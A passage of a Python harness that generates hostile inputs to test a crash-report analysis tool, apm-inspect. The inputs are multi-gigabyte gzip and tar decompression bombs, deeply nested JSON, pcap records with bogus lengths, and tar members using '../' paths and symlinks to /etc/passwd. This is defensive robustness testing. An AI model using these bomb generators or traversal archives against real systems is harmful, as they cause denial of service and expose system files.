#!/usr/bin/env python3
"""Hostile inputs, on purpose: generates crafted inputs, runs apm-inspect on each, checks the expected behaviour.

Every case is generated into a private work folder, one case at a time, and deleted before the next one, so the
disk holds at most one case (plus its outputs). Each run of the binary happens under an address-space cap
(RLIMIT_AS) and a wall-time cap, with TMPDIR pointing at a private empty folder; the harness records the exit
status, peak RSS (os.wait4 rusage of that child), wall and CPU time, and checks what the issue asks of every
hostile input: a clear error or a partial result, never a crash, unbounded memory or unbounded time.

Expectations checked for every run:
  - exit status 0 or 1 (never a signal, never 2 = usage error, never a timeout); some cases demand 1;
  - every stderr line reads `path[:line[:col]]: (error|warning|note): message`, is valid UTF-8 and holds no raw
    control byte (input bytes reaching a terminal are escaped); text stdout holds no raw control byte either;
  - JSON output parses (outputs larger than --json-parse-limit are reported as not parsed, in the notes column);
  - peak RSS under the case's bound (a small multiple of the input size, or a fixed bound where the input is
    limited, streamed or refused), wall time under the case's cap;
  - the private TMPDIR is empty afterwards; the input folder is unchanged (hash of every entry before/after);
  - case-specific checks (a problem is reported, nothing escapes an archive, /etc/passwd never leaks, ...).

usage: Scripts/hostile-inputs.py --bin PATH [--scale ci|full] [--markdown FILE] [--only REGEX] [--keep]
Exit status: 0 when every run met its expectation, 1 when any did not (they are listed), 2 on a usage error.
Python 3 standard library only.
"""
import argparse
import dataclasses
import hashlib
import io
import json
import multiprocessing
import os
import re
import resource
import shutil
import signal
import sqlite3
import stat
import struct
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import uuid
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(HERE)
KiB, MiB, GiB = 1 << 10, 1 << 20, 1 << 30

# Sizes per scale. `ci` keeps every case under a few seconds of generation and a few hundred MB of disk while
# going through the same code paths (the bombs still cross the readers' decompression limits, except the
# PowerLog one in ci, whose 4 GiB limit would need 4 GiB of disk).
SCALES = {
    "ci": dict(big=64 * MiB, har_entries=100_000, rows=100_000, tar_members=50_000, http_bomb=2 * GiB,
               tar_bomb=1 * GiB, powerlog_bomb=1 * GiB, deep=100_000, mistyped=2_000_000, slow_cap=120.0,
               quick_cap=20.0),
    "full": dict(big=1_000_000_000, har_entries=1_000_000, rows=10_000_000, tar_members=1_000_000,
                 http_bomb=16 * GiB, tar_bomb=16 * GiB, powerlog_bomb=16 * GiB, deep=100_000, mistyped=20_000_000,
                 slow_cap=900.0,
                 quick_cap=60.0),
}

# Memory bounds. SMALL: inputs that must be refused or summarised without holding them (FIFO, /dev/zero, loops,
# entity expansion, bogus lengths). STREAM: streamed summaries and limited decompression (bombs are cut at the
# readers' limits; the HTTP reader's documented default limit is 1 GiB of decompressed HAR, hence its own bound).
SMALL = 256 * MiB
STREAM = 512 * MiB
HTTP_DECOMPRESSED_LIMIT = 1 * GiB


def per_byte(multiple, fixed=256 * MiB):
    """A bound of `multiple` times the input size plus a fixed allowance for the runtime and tables."""
    return lambda size: fixed + multiple * size


# --------------------------------------------------------------------------------------------------------------
# Compressed bombs without compressing every byte: after a Z_FULL_FLUSH the deflate state is reset, so the same
# input chunk always compresses to the same bytes; the stream is prefix + that block repeated + suffix, and the
# checksums of the repeats are combined arithmetically (zlib's crc32_combine / adler32_combine).

def _gf2_times(mat, vec):
    total, i = 0, 0
    while vec:
        if vec & 1:
            total ^= mat[i]
        vec >>= 1
        i += 1
    return total


def _gf2_square(mat):
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_combine(crc1, crc2, len2):
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << (n - 1) for n in range(1, 32)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def adler32_combine(adler1, adler2, len2):
    base = 65521
    rem = len2 % base
    sum1 = adler1 & 0xFFFF
    sum2 = (rem * sum1) % base
    sum1 += (adler2 & 0xFFFF) + base - 1
    sum2 += (adler1 >> 16) + (adler2 >> 16) + base - rem
    sum1 %= base
    sum2 %= base
    return sum1 | (sum2 << 16)


def _repeat_checksum(value, length, count, combine, empty):
    """Checksum of `count` copies of a chunk whose checksum is `value`, by doubling."""
    result, result_len = empty, 0
    power, power_len = value, length
    while count:
        if count & 1:
            result = combine(result, power, power_len)
            result_len += power_len
        count >>= 1
        if count:
            power = combine(power, power, power_len)
            power_len *= 2
    return result


def write_deflate_stream(path, parts, container):
    """Writes `parts` [(bytes, repeat), ...] as one gzip or zlib stream; returns the decompressed size."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc, adler, total = 0, 1, 0
    with open(path, "wb") as out:
        out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03" if container == "gzip" else b"\x78\xda")
        for data, repeat in parts:
            if not data or repeat <= 0:
                continue
            block = compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)
            batch = max(1, min(repeat, (8 * MiB) // max(1, len(block))))
            written = 0
            while written < repeat:
                n = min(batch, repeat - written)
                out.write(block * n)
                written += n
            crc = crc32_combine(crc, _repeat_checksum(zlib.crc32(data), len(data), repeat, crc32_combine, 0),
                                len(data) * repeat)
            adler = adler32_combine(adler, _repeat_checksum(zlib.adler32(data), len(data), repeat,
                                                            adler32_combine, 1), len(data) * repeat)
            total += len(data) * repeat
        out.write(compressor.flush(zlib.Z_FINISH))
        if container == "gzip":
            out.write(struct.pack("<II", crc, total & 0xFFFFFFFF))
        else:
            out.write(struct.pack(">I", adler))
    return total


def filler_parts(prefix, size, unit=b" ", suffix=b""):
    """prefix + `unit` filler up to `size` bytes + suffix, as parts for write_deflate_stream."""
    chunk = unit * (MiB // len(unit))
    body = max(0, size - len(prefix) - len(suffix))
    return [(prefix, 1), (chunk, body // len(chunk)), (unit * ((body % len(chunk)) // len(unit)), 1), (suffix, 1)]


# --------------------------------------------------------------------------------------------------------------
# Realistic building blocks.

T0 = 1709280000.0  # 2024-03-01T08:00:00Z


def text_crash_header(process="Hostile", extra=""):
    return (
        "Incident Identifier: 2C81E17F-3922-4B00-9E4A-15A6AD2951F8\n"
        "Hardware Model:      iPhone15,3\n"
        f"Process:             {process} [4187]\n"
        f"Path:                /private/var/containers/Bundle/Application/8EBB5EC6/{process}.app/{process}\n"
        "Identifier:          io.example.hostile\n"
        "Version:             57 (2.3.1)\n"
        "Code Type:           ARM-64 (Native)\n"
        "Role:                Foreground\n"
        "Parent Process:      launchd [1]\n"
        "\n"
        "Date/Time:           2024-03-01 09:42:17.3861 +0100\n"
        "OS Version:          iPhone OS 17.2.1 (21C66)\n"
        "Report Version:      104\n"
        "\n"
        "Exception Type:  EXC_BAD_ACCESS (SIGSEGV)\n"
        "Exception Subtype: KERN_INVALID_ADDRESS at 0x0000000000000010\n"
        "Triggered by Thread:  0\n"
        f"{extra}"
        "\n"
    )


def frame_line(i, image="HostileKit"):
    return f"{i:<4d}{image:<30s}\t0x{0x102a20b80 + 4 * i:016x} ThumbnailCache.entry(for:) + {64 + i % 900}\n"


def write_big_text_crash(path, size):
    """A text crash report whose threads go on until the file is `size` bytes."""
    with open(path, "w", encoding="utf-8", newline="\n") as out:
        written = out.write(text_crash_header())
        frames = "".join(frame_line(i, "HostileKit" if i % 3 else "libsystem_kernel.dylib") for i in range(512))
        thread = 0
        while written < size:
            written += out.write(f"\nThread {thread}{' Crashed' if thread == 0 else ''}:\n")
            written += out.write(frames)
            thread += 1
        out.write("\nBinary Images:\n0x102a18000 - 0x102a3ffff HostileKit arm64  <0123456789abcdef0123456789abcdef>"
                  " /private/var/containers/Bundle/Application/8EBB5EC6/Hostile.app/Frameworks/HostileKit\n")


def write_filled(path, prefix, size, unit=b"A", suffix=b""):
    chunk = unit * (MiB // len(unit))
    with open(path, "wb") as out:
        out.write(prefix)
        left = size - len(prefix) - len(suffix)
        while left > 0:
            piece = chunk[: min(left, len(chunk))]
            out.write(piece)
            left -= len(piece)
        out.write(suffix)


def corpus_ips(name):
    """(header line, body object) of one of the project's own .ips examples, as a realistic base to mutate."""
    with open(os.path.join(REPO, "Corpus", name), "rb") as f:
        raw = f.read().decode("utf-8")
    header, _, body = raw.partition("\n")
    return json.loads(header), json.loads(body)


def write_ips(path, header, body, raw_body=None):
    with open(path, "wb") as out:
        out.write(json.dumps(header, separators=(",", ":")).encode() + b"\n")
        out.write(raw_body if raw_body is not None else json.dumps(body, indent=1).encode())


JETSAM_EXAMPLE = "jetsam/ios13.3.1_iPhone8-2_frontmost-per-process-limit_1450MB.ips"
CRASH_EXAMPLE = "crash/ios17.2.1_309_json_exc_crash_sigabrt_nsexception_leb_unknown_keys.ips"

POWERLOG_TABLES = [
    "CREATE TABLE 'PLConfigAgent_EventNone_Config' ('ID' INTEGER PRIMARY KEY AUTOINCREMENT, 'timestamp' REAL,"
    " 'Build' TEXT, 'Device' TEXT, 'DeviceBootTime' REAL, 'LastBuild' TEXT)",
    "CREATE TABLE 'PLStorageOperator_EventForward_TimeOffset' ('ID' INTEGER PRIMARY KEY AUTOINCREMENT,"
    " 'timestamp' REAL, 'baseband' REAL, 'kernel' REAL, 'system' REAL)",
    "CREATE TABLE 'PLProcessMonitorAgent_EventPoint_ProcessExit' ('ID' INTEGER PRIMARY KEY AUTOINCREMENT,"
    " 'timestamp' REAL, 'PID' INTEGER, 'ProcessName' TEXT, 'timeSinceSpawn' INTEGER, 'lastTimeToRelaunch' INTEGER,"
    " 'ReasonNamespace' INTEGER, 'ReasonCode' INTEGER, 'JetsamPriority' INTEGER)",
    "CREATE TABLE 'PLAccountingOperator_EventNone_Nodes' ('ID' INTEGER PRIMARY KEY AUTOINCREMENT,"
    " 'timestamp' REAL, 'IsPermanent' INTEGER, 'Name' TEXT)",
    "CREATE TABLE 'PLAccountingOperator_Aggregate_RootNodeEnergy' ('ID' INTEGER PRIMARY KEY AUTOINCREMENT,"
    " 'timestamp' REAL, 'timeInterval' REAL, 'Energy' INTEGER, 'NodeID' INTEGER, 'RootNodeID' INTEGER)",
]
BATTERY_TABLE = (
    "CREATE TABLE 'PLBatteryAgent_EventBackward_Battery' ('ID' INTEGER PRIMARY KEY AUTOINCREMENT, 'timestamp' REAL,"
    " 'Level' REAL, 'RawLevel' REAL, 'AtCriticalLevel' INTEGER, 'Voltage' INTEGER, 'InstantAmperage' INTEGER,"
    " 'CurrentCapacity' INTEGER, 'CycleCount' INTEGER, 'IsCharging' INTEGER, 'Amperage' INTEGER,"
    " 'Temperature' REAL, 'ExternalConnected' INTEGER)"
)


def write_powerlog(path, battery_rows=2000, battery_as_view=None, extra_sql=()):
    """A PowerLog database with the iOS 15 table shapes; the battery table is created last so its pages are the
    last of the file (the corrupt-page case relies on it)."""
    con = sqlite3.connect(path)
    con.execute("PRAGMA page_size=4096")
    con.execute("PRAGMA journal_mode=OFF")
    con.execute("PRAGMA synchronous=OFF")
    for sql in POWERLOG_TABLES:
        con.execute(sql)
    con.execute("INSERT INTO PLConfigAgent_EventNone_Config (timestamp, Build, Device, DeviceBootTime, LastBuild)"
                " VALUES (?, '21C66', 'D74AP', ?, '21C62')", (T0, T0 - 86400))
    con.execute("INSERT INTO PLStorageOperator_EventForward_TimeOffset (timestamp, baseband, kernel, system)"
                " VALUES (?, 0.04, -1571153284.1, -400.0)", (T0 - 500,))
    names = ["io.example.hostile", "com.apple.mobilesafari", "backboardd"]
    for i, name in enumerate(names, 1):
        con.execute("INSERT INTO PLAccountingOperator_EventNone_Nodes (ID, timestamp, IsPermanent, Name)"
                    " VALUES (?, ?, 1, ?)", (i, T0, name))
    con.executemany("INSERT INTO PLAccountingOperator_Aggregate_RootNodeEnergy (timestamp, timeInterval, Energy,"
                    " NodeID, RootNodeID) VALUES (?, 3600, ?, ?, 1)",
                    ((T0 + 3600 * h, 1000 * (n + 1) + h, n + 1) for h in range(24) for n in range(len(names))))
    con.executemany("INSERT INTO PLProcessMonitorAgent_EventPoint_ProcessExit (timestamp, PID, ProcessName,"
                    " timeSinceSpawn, lastTimeToRelaunch, ReasonNamespace, ReasonCode, JetsamPriority)"
                    " VALUES (?, ?, 'Hostile', 120, 0, 1, 9, 10)", ((T0 + 60 * i, 4000 + i) for i in range(20)))
    if battery_as_view:
        con.execute(battery_as_view)
    else:
        con.execute(BATTERY_TABLE)
        rows = ((T0 + 20.0 * i, 100.0 - (i % 10000) / 100.0, 90.0, 0, 4100 - i % 300, -300, 2800, 412, i % 2,
                 -250, 30.5, i % 2) for i in range(battery_rows))
        con.executemany("INSERT INTO PLBatteryAgent_EventBackward_Battery (timestamp, Level, RawLevel,"
                        " AtCriticalLevel, Voltage, InstantAmperage, CurrentCapacity, CycleCount, IsCharging,"
                        " Amperage, Temperature, ExternalConnected) VALUES (?,?,?,?,?,?,?,?,?,?,?,?)", rows)
    for sql in extra_sql:
        con.execute(sql)
    con.commit()
    con.close()


def har_entry(i):
    started = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(T0 + i // 10)) + f".{(i % 10) * 100:03d}Z"
    return (
        '{"startedDateTime":"%s","time":%d,"request":{"method":"GET","url":"https://api%d.example.com/v2/items/%d",'
        '"httpVersion":"h2","headers":[{"name":"accept","value":"application/json"}],"queryString":[],'
        '"cookies":[],"headersSize":-1,"bodySize":0},"response":{"status":%d,"statusText":"","httpVersion":"h2",'
        '"headers":[{"name":"content-type","value":"application/json"}],"cookies":[],"content":{"size":512,'
        '"mimeType":"application/json"},"redirectURL":"","headersSize":-1,"bodySize":512},"cache":{},'
        '"timings":{"blocked":1,"dns":-1,"connect":-1,"ssl":-1,"send":0,"wait":%d,"receive":2},'
        '"serverIPAddress":"198.51.100.%d","connection":"443"}'
        % (started, 5 + i % 400, i % 7, i, 200 if i % 50 else 503, 3 + i % 397, i % 250)
    )


def write_har(path, entries):
    with open(path, "w", encoding="utf-8") as out:
        out.write('{"log":{"version":"1.2","creator":{"name":"hostile-inputs","version":"1"},"pages":[],'
                  '"entries":[\n')
        for i in range(entries):
            out.write(har_entry(i))
            out.write(",\n" if i + 1 < entries else "\n")
        out.write("]}}\n")


PCAP_HEADER = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)


def ethernet_ipv4_udp_dns(payload_id):
    dns = struct.pack(">HHHHHH", payload_id, 0x0100, 1, 0, 0, 0) + b"\x07example\x03com\x00\x00\x01\x00\x01"
    udp = struct.pack(">HHHH", 53000, 53, 8 + len(dns), 0) + dns
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes([192, 168, 1, 20]),
                     bytes([192, 0, 2, 53])) + udp
    return b"\x00\x11\x22\x33\x44\x55\x66\x77\x88\x99\xaa\xbb\x08\x00" + ip


def pcap_record(data, seconds=1709280000, claimed=None):
    length = len(data) if claimed is None else claimed
    return struct.pack("<IIII", seconds, 0, length, length) + data


def pcapng_block(block_type, body, length=None):
    total = 12 + len(body) if length is None else length
    return struct.pack("<II", block_type, total) + body + struct.pack("<I", total)


PCAPNG_SHB = pcapng_block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1))
PCAPNG_IDB = pcapng_block(0x00000001, struct.pack("<HHI", 1, 0, 65535))


def pcapng_epb(data):
    padded = data + b"\0" * (-len(data) % 4)
    return pcapng_block(0x00000006, struct.pack("<IIIII", 0, 0x0006, 0x12345678, len(data), len(data)) + padded)


def tar_member(name, kind=tarfile.REGTYPE, data=b"", linkname="", devmajor=0, devminor=0, mode=0o644):
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = len(data) if kind in (tarfile.REGTYPE, tarfile.AREGTYPE) else 0
    info.linkname = linkname
    info.devmajor, info.devminor = devmajor, devminor
    info.mode = mode
    info.mtime = int(T0)
    return info, (io.BytesIO(data) if info.size else None)


# --------------------------------------------------------------------------------------------------------------
# Cases.

@dataclasses.dataclass
class Run:
    label: str
    args: list  # arguments after the binary
    json: bool = False  # stdout must parse as JSON (or NDJSON when ndjson)
    ndjson: bool = False
    exits: tuple = (0, 1)
    must_report: bool = False  # the run must say something is wrong (exit 1 with an error line, or a diagnostic)
    unknown_ok: bool = False  # with must_report: classifying the file as `unknown` without reading it also does
    as_nobody: bool = False  # run as an unprivileged user (permission checks are real only then)
    absent: tuple = ()  # stdout must not contain these strings
    present: tuple = ()  # stdout must contain these strings
    err_present: tuple = ()  # stderr must contain these strings (a note naming what was skipped, say)
    bound: int = SMALL  # peak RSS bound, bytes
    cap: float = 30.0  # wall time cap, seconds
    input_size: int = 0


@dataclasses.dataclass
class Case:
    name: str
    issue: str  # the issue's wording of the input
    expected: str  # the expected behaviour, as the issue states it
    runs: list
    after: object = None  # callable(case_dir) -> list of problems (things that must not exist, ...)


def size_of(*paths):
    total = 0
    for p in paths:
        if os.path.isdir(p) and not os.path.islink(p):
            for root, _, files in os.walk(p):
                for f in files:
                    full = os.path.join(root, f)
                    if os.path.isfile(full) and not os.path.islink(full):
                        total += os.path.getsize(full)
        elif os.path.isfile(p):
            total += os.path.getsize(p)
    return total


def inspect_runs(path, bound, cap, must_report=False, text=True, **extra):
    name = os.path.basename(path)
    runs = [Run(f"inspect json {name}", ["inspect", "--format", "json", path], json=True, bound=bound, cap=cap,
                must_report=must_report, **extra)]
    if text:
        runs.append(Run(f"inspect text {name}", ["inspect", path], bound=bound, cap=cap, must_report=must_report))
    return runs


def case_big_file(d, s):
    path = os.path.join(d, "big-text.crash")
    write_big_text_crash(path, s["big"])
    bound = per_byte(4)(os.path.getsize(path))
    return Case("big-file", f"a {s['big'] // MiB} MiB file (text crash report, {s['big'] // MiB} MiB of frames)",
                "read or refused with a clear error; memory a small multiple of the input",
                inspect_runs(path, bound, s["slow_cap"])
                + [Run("scan json", ["scan", "--format", "json", path], json=True, bound=bound, cap=s["slow_cap"])])


def case_big_line(d, s):
    path = os.path.join(d, "big-line.crash")
    write_filled(path, b"Incident Identifier: 2C81E17F-3922-4B00-9E4A-15A6AD2951F8\nProcess:             ",
                 s["big"], b"A")
    json_line = os.path.join(d, "big-line.ips")
    write_filled(json_line, b'{"bug_type":"309","os_version":"iPhone OS 17.2.1 (21C66)","name":"',
                 s["big"], b"x", b'"}')
    bound = per_byte(4)(os.path.getsize(path))
    return Case("big-line", f"a {s['big'] // MiB} MiB single line (text header, then a one-line .ips header)",
                "read or refused with a clear error; memory a small multiple of the input",
                inspect_runs(path, bound, s["slow_cap"]) + inspect_runs(json_line, bound, s["slow_cap"], text=False)
                + [Run("translate big-line.ips", ["translate", json_line], bound=bound, cap=s["slow_cap"])])


def case_deep_json(d, s):
    depth = s["deep"]
    header = b'{"bug_type":"309","os_version":"iPhone OS 17.2.1 (21C66)","name":"Hostile"}\n'
    files = {
        "deep-array.ips": header + b"[" * depth + b"]" * depth,
        "deep-object.json": b'{"a":' * depth + b"1" + b"}" * depth,
        "deep-unclosed.ips": header + b'{"threads":' + b"[" * depth,
        "deep-jetsam.ips": b'{"bug_type":"298","os_version":"iPhone OS 17.2.1 (21C66)"}\n{"processes":'
                           + b"[" * depth + b"]" * depth + b"}",
        "deep.har": b'{"log":{"version":"1.2","entries":[' + b'{"x":' * depth + b"0" + b"}" * depth + b"]}}",
        "deep.chlsj": b"[" * depth + b"]" * depth,
    }
    runs = []
    for name, data in files.items():
        path = os.path.join(d, name)
        with open(path, "wb") as out:
            out.write(data)
        # An .ips or HAR must say it was cut at the depth limit; JSON of no known shape may come out as `unknown`.
        known = name.endswith((".ips", ".har"))
        runs += inspect_runs(path, SMALL, s["quick_cap"], must_report=known, text=False)
        if name.endswith((".har", ".chlsj")):
            runs.append(Run(f"http json {name}", ["http", "--format", "json", path], json=True, must_report=True,
                            cap=s["quick_cap"]))
        if name.startswith("deep-array"):
            runs.append(Run(f"translate {name}", ["translate", path], must_report=True, cap=s["quick_cap"]))
    runs.append(Run("memory-limits (folder)", ["memory-limits", "--format", "json", d], json=True,
                    cap=s["quick_cap"]))
    runs.append(Run("scan json (folder)", ["scan", "--format", "json", d], json=True, cap=s["quick_cap"]))
    return Case("deep-json", f"JSON nested {depth} deep (.ips, .json, jetsam, .har, .chlsj, unclosed)",
                "a clear error (depth limit) or a partial result; fixed memory", runs)


def case_gzip_bomb(d, s):
    size = s["http_bomb"]
    prefix = b'{"log":{"version":"1.2","creator":{"name":"bomb","version":"1"},"entries":['
    har_gz = os.path.join(d, "bomb.har.gz")
    zhar = os.path.join(d, "bomb.zhar")
    write_deflate_stream(har_gz, filler_parts(prefix, size, b" ", b"]}}"), "gzip")
    write_deflate_stream(zhar, filler_parts(prefix, size, b" ", b"]}}"), "zlib")
    plsql = os.path.join(d, "seed.PLSQL")
    write_powerlog(plsql, battery_rows=200)
    with open(plsql, "rb") as f:
        db = f.read()
    os.remove(plsql)
    pl_gz = os.path.join(d, "bomb.PLSQL.gz")
    write_deflate_stream(pl_gz, filler_parts(db, s["powerlog_bomb"], b"\0"), "gzip")
    bound = HTTP_DECOMPRESSED_LIMIT + STREAM
    cap = s["slow_cap"]
    runs = []
    for path in (har_gz, zhar):
        name = os.path.basename(path)
        runs.append(Run(f"http json {name}", ["http", "--format", "json", path], json=True, must_report=True,
                        bound=bound, cap=cap))
        runs.append(Run(f"inspect json {name}", ["inspect", "--format", "json", path], json=True, must_report=True,
                        unknown_ok=True, bound=bound, cap=cap))
    runs.append(Run("energy json bomb.PLSQL.gz", ["energy", "--format", "json", pl_gz], json=True, bound=STREAM,
                    cap=cap, must_report=s["powerlog_bomb"] > 4 * GiB))
    runs.append(Run("scan json (folder)", ["scan", "--format", "json", d], json=True, must_report=True,
                    unknown_ok=True, bound=bound, cap=cap))
    return Case("gzip-bomb", f"gzip bomb: .har.gz and .zhar of {size // GiB} GiB, .PLSQL.gz of "
                f"{s['powerlog_bomb'] // GiB} GiB (a real database, then zeros)",
                "cut at the decompression limit with a clear error; memory bounded by the limit, not the bomb", runs)


def case_tar_bomb(d, s):
    size = s["tar_bomb"]
    plsql = os.path.join(d, "seed.PLSQL")
    write_powerlog(plsql, battery_rows=200)
    with open(plsql, "rb") as f:
        db = f.read()
    os.remove(plsql)
    folder = "sysdiagnose_2024.03.01_10-20-30-0800_iPhone-OS_iPhone_21D61"
    big_pl = tarfile.TarInfo(f"{folder}/logs/powerlogs/powerlog_2024-03-01_10-20_5F3A.PLSQL")
    big_pl.size, big_pl.mtime = size, int(T0)
    big_ips = tarfile.TarInfo(f"{folder}/crashes_and_spins/Hostile-2024-03-01-102030.ips")
    big_ips.size, big_ips.mtime = size, int(T0)
    header = b'{"bug_type":"309","os_version":"iPhone OS 17.2.1 (21C66)","name":"Hostile"}\n{"threads":['
    parts = [(big_pl.tobuf(tarfile.GNU_FORMAT), 1)] + filler_parts(db, size, b"\0")
    parts += [(b"\0" * (-size % 512), 1), (big_ips.tobuf(tarfile.GNU_FORMAT), 1)]
    parts += filler_parts(header, size, b" ") + [(b"\0" * (-size % 512) + b"\0" * 1024, 1)]
    bomb = os.path.join(d, "bomb.tar.gz")
    write_deflate_stream(bomb, parts, "gzip")

    many = os.path.join(d, "many.tar.gz")
    count = s["tar_members"]
    with tarfile.open(many, "w:gz", compresslevel=1, format=tarfile.USTAR_FORMAT) as tar:
        body = b'{"bug_type":"298"}\n{}'
        for i in range(count):
            info, data = tar_member(f"{folder}/crashes_and_spins/JetsamEvent-{i:07d}.ips", data=body)
            tar.addfile(info, data)
    cap = s["slow_cap"]
    runs = [
        Run("scan json bomb.tar.gz", ["scan", "--format", "json", bomb], json=True, must_report=True, bound=STREAM,
            cap=cap),
        Run("scan text bomb.tar.gz", ["scan", bomb], must_report=True, bound=STREAM, cap=cap),
        Run("energy json bomb.tar.gz", ["energy", "--format", "json", bomb], json=True, bound=STREAM, cap=cap),
        # inspect and http read archives through the same reader and limits as scan (issue 40).
        Run("inspect json bomb.tar.gz", ["inspect", "--format", "json", bomb], json=True, bound=STREAM, cap=cap),
        Run("http json bomb.tar.gz", ["http", "--format", "json", bomb], json=True, must_report=True, bound=STREAM,
            cap=cap),
        Run(f"scan json many.tar.gz ({count} members)", ["scan", "--format", "json", many], json=True,
            bound=STREAM + 2 * KiB * count, cap=cap),
    ]
    return Case("tar-bomb", f"tar bombs: two {size // GiB} GiB members (GNU base-256 sizes when over 8 GiB) in a "
                f"sysdiagnose .tar.gz; a .tar.gz of {count} members",
                "members over the per-entry limit skipped with a warning; memory bounded; time bounded", runs)


def case_tar_big_member(d, s):
    # Issue 38 (N10): a member under the per-member limit cost time quadratic in its size (8 MiB 1.9 s, 32 MiB
    # 83 s); it must cost time in proportion. Random bytes, so the gzip stream is as long as the member and the
    # reader gets it in many small inflated chunks.
    size = 32 * MiB
    folder = "sysdiagnose_2024.03.01_10-20-30-0800_iPhone-OS_iPhone_21D61"
    path = os.path.join(d, "big-member.tar.gz")
    with tarfile.open(path, "w:gz", compresslevel=1, format=tarfile.USTAR_FORMAT) as tar:
        info, data = tar_member(f"{folder}/logs/SystemLogs/system_logs.bin", data=os.urandom(size))
        tar.addfile(info, data)
        body = b'{"bug_type":"298"}\n{}'
        info, data = tar_member(f"{folder}/crashes_and_spins/JetsamEvent-2024-03-01-102030.ips", data=body)
        tar.addfile(info, data)
    cap = 30.0
    bound = per_byte(3)(size)
    runs = [
        Run("scan json big-member.tar.gz", ["scan", "--format", "json", path], json=True, bound=bound, cap=cap),
        Run("memory-limits big-member.tar.gz", ["memory-limits", path], bound=bound, cap=cap),
        Run("report json big-member.tar.gz", ["report", "--format", "json", path], json=True, bound=bound, cap=cap),
        Run("energy big-member.tar.gz", ["energy", path], bound=bound, cap=cap),
        Run("inspect json big-member.tar.gz", ["inspect", "--format", "json", path], json=True, bound=bound, cap=cap),
    ]
    return Case("tar-big-member", f"a sysdiagnose .tar.gz holding one {size // MiB} MiB member (under every "
                "per-member limit) and a JetsamEvent", "read in time and memory in proportion to the member", runs)


def case_pcap_4gb(d, s):
    ok = pcap_record(ethernet_ipv4_udp_dns(1))
    files = {
        "record-4gb.pcap": PCAP_HEADER + ok + pcap_record(ethernet_ipv4_udp_dns(2), claimed=0xFFFFFFFF) + b"\0" * 64,
        "record-2gb.pcap": PCAP_HEADER + ok + pcap_record(ethernet_ipv4_udp_dns(2), claimed=0x7FFFFFFF),
        "snaplen-4gb.pcap": struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 0xFFFFFFFF, 1) + ok
                            + pcap_record(b"\0" * 16, claimed=0xFFFFFFF0),
        "epb-4gb.pcapng": PCAPNG_SHB + PCAPNG_IDB + pcapng_block(
            6, struct.pack("<IIIII", 0, 0, 0, 0xFFFFFFFF, 0xFFFFFFFF) + b"\0" * 16),
    }
    runs = []
    for name, data in files.items():
        path = os.path.join(d, name)
        with open(path, "wb") as out:
            out.write(data)
        runs.append(Run(f"http json {name}", ["http", "--format", "json", path], json=True, must_report=True,
                        cap=s["quick_cap"]))
        runs.append(Run(f"inspect json {name}", ["inspect", "--format", "json", path], json=True, must_report=True,
                        cap=s["quick_cap"]))
    runs.append(Run("http text record-4gb.pcap", ["http", os.path.join(d, "record-4gb.pcap")], must_report=True,
                    cap=s["quick_cap"]))
    return Case("pcap-4gb", "a pcap record claiming 4 GB (and 2 GB, a 4 GB snaplen, a pcapng packet claiming 4 GB)",
                "a clear error with the record's offset and the packets before it kept; fixed memory", runs)


def case_pcapng_loop(d, s):
    pkt = pcapng_epb(ethernet_ipv4_udp_dns(1))
    files = {
        "zero-length.pcapng": PCAPNG_SHB + PCAPNG_IDB + pkt + struct.pack("<II", 6, 0) + b"\0" * 64,
        "length-8.pcapng": PCAPNG_SHB + PCAPNG_IDB + pkt + struct.pack("<II", 6, 8) * 64,
        "length-13.pcapng": PCAPNG_SHB + PCAPNG_IDB + pkt + struct.pack("<III", 6, 13, 13) + b"\0" * 64,
        "length-max.pcapng": PCAPNG_SHB + PCAPNG_IDB + pkt + struct.pack("<II", 6, 0xFFFFFFFC) + b"\0" * 64,
        "shb-zero.pcapng": struct.pack("<II", 0x0A0D0D0A, 0) + struct.pack("<I", 0x1A2B3C4D) + b"\0" * 64,
    }
    runs = []
    for name, data in files.items():
        path = os.path.join(d, name)
        with open(path, "wb") as out:
            out.write(data)
        runs.append(Run(f"http json {name}", ["http", "--format", "json", path], json=True, must_report=True,
                        cap=s["quick_cap"]))
        runs.append(Run(f"inspect json {name}", ["inspect", "--format", "json", path], json=True, must_report=True,
                        cap=s["quick_cap"]))
    return Case("pcapng-loop", "pcapng block lengths that are zero, 8, 13, 0xFFFFFFFC, and a zero-length section",
                "a clear error, never a loop; fixed memory", runs)


def case_tar_escape(d, s):
    marker = "h7-escape-" + uuid.uuid4().hex[:12]
    canary = os.path.join(d, "canary")
    os.mkdir(canary)
    abs_target = os.path.join(canary, marker + "-absolute.ips")
    _, jetsam = corpus_ips(JETSAM_EXAMPLE)
    with open(os.path.join(REPO, "Corpus", JETSAM_EXAMPLE), "rb") as f:
        report = f.read()
    folder = "sysdiagnose_2024.03.01_10-20-30-0800_iPhone-OS_iPhone_21D61"
    members = [
        tar_member(f"{folder}/crashes_and_spins/JetsamEvent-2024-03-01-102030.ips", data=report),
        tar_member("../" * 12 + f"tmp/{marker}-dotdot.ips", data=report),
        tar_member(f"{folder}/../../{marker}-climb.ips", data=report),
        tar_member(abs_target, data=report),
        tar_member(f"{folder}/link-passwd.ips", tarfile.SYMTYPE, linkname="/etc/passwd"),
        tar_member(f"{folder}/link-up.ips", tarfile.SYMTYPE, linkname="../../../../../../etc/passwd"),
